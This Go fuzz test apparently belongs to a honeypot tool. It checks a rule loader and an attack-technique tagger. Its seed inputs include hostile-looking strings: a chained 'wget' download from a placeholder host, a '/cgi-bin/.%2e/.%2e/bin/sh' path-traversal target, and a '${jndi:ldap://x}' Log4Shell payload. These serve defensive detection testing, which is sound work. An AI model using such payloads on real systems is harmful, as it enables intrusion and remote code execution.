package attack

import (
	"strings"
	"testing"

	apiv1 "github.com/decnet/decnet/gen/decnet/api/v1"
	eventv1 "github.com/decnet/decnet/gen/decnet/event/v1"
)

// FuzzLoad feeds arbitrary rule files. A file either fails with an error
// that wraps ErrInvalidRules or loads into rules whose matcher runs.
func FuzzLoad(f *testing.F) {
	f.Add([]byte(goodRules))
	f.Add([]byte(otherRules))
	f.Add(DefaultYAML())
	f.Add([]byte("version: 1\nrules:\n  - &a {id: x}\n  - *a\n"))
	f.Fuzz(func(t *testing.T, data []byte) {
		rs, err := Load(strings.NewReader(string(data)))
		if err != nil {
			if rs != nil {
				t.Fatal("Load returned rules with an error")
			}
			return
		}
		rs.Match(cmd("uname -a"))
		rs.MatchReuse(&apiv1.CredentialReuse{Principal: "root", Targets: []*apiv1.CredentialTarget{{}, {}}})
		tg := NewTagger(rs, newClock().now)
		tg.Observe("a", auth("root", "x", rejected))
	})
}

// FuzzMatch drives the default rules and a Tagger with attacker-controlled
// fields: command lines, HTTP targets, user agents, URLs, file names.
func FuzzMatch(f *testing.F) {
	f.Add("command", "uname -a; wget http://x/y", "/cgi-bin/.%2e/.%2e/bin/sh", "zgrab", "root", "tcpip-forward")
	f.Add("http.request", "", "/?${jndi:ldap://x}", "${jndi:", "", "")
	f.Add("auth.attempt", "", "", "", "admin", "")
	rs := Default()
	f.Fuzz(func(t *testing.T, kind, line, target, agent, principal, fwd string) {
		clk := newClock()
		tg := NewTagger(rs, clk.now)
		evs := []*eventv1.Event{cmd(line), httpReq("GET", target, agent), auth(principal, line, rejected), download(target), captured(line, "scp", target), forward(fwd)}
		for _, ev := range evs {
			ev.Kind = kind
			for _, tag := range rs.Match(ev) {
				if tag.TechniqueID == "" || tag.RuleID == "" {
					t.Fatalf("empty tag %+v", tag)
				}
			}
			tg.Observe(principal, ev)
			ev.Payload = nil
			tg.Observe(principal, ev)
		}
	})
}
